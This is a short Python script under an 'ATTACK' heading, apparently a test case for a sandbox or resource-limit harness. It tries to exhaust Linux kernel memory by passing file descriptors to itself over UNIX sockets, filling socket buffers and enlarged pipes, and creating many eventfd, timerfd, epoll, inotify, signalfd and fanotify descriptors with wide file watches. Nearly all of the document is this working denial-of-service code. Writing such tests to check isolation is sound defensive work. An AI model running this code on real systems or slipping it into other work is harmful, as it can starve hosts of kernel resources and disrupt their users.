# Tries: host code that fills the kernel's memory: descriptors sent to itself, full socket buffers, wide pipes, event counters, timers, watches on files.
# Ends: the limit of open files of the child; the kernel's limits of pipes and of descriptors in flight.
### ATTACK
import array
import ctypes
import fcntl
import os
import socket

libc = ctypes.CDLL(None)
kept, pipes = [], []
try:
    for _ in range(90):
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        kept += pair
        pair[0].setblocking(False)
        fds = array.array("i", [one.fileno() for one in pair] * 60)
        try:
            while True:
                pair[0].sendmsg([b"x" * 4000], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
        except OSError:
            pass
    for _ in range(90):
        pipes += os.pipe()
        os.set_blocking(pipes[-1], False)
        try:
            fcntl.fcntl(pipes[-1], 1031, 1 << 20)
            os.write(pipes[-1], bytes(1 << 20))
        except OSError:
            pass
except OSError:
    pass
for one in kept:
    one.close()
for descriptor in pipes:
    os.close(descriptor)
made = []
for act in (
    lambda: libc.eventfd(1, 0),
    lambda: libc.timerfd_create(1, 0),
    lambda: libc.epoll_create1(0),
    lambda: libc.inotify_init1(0),
    lambda: libc.signalfd(-1, bytes(128), 0),
    lambda: libc.fanotify_init(0, 0),
):
    for _ in range(60):
        made.append(act())
for descriptor in made:
    for place in (b"/", b"/tmp", b"/usr/lib", b"/dev/null"):
        libc.inotify_add_watch(descriptor, place, 0xFFF)
    if descriptor > 2:
        os.close(descriptor)
### END
### BASE
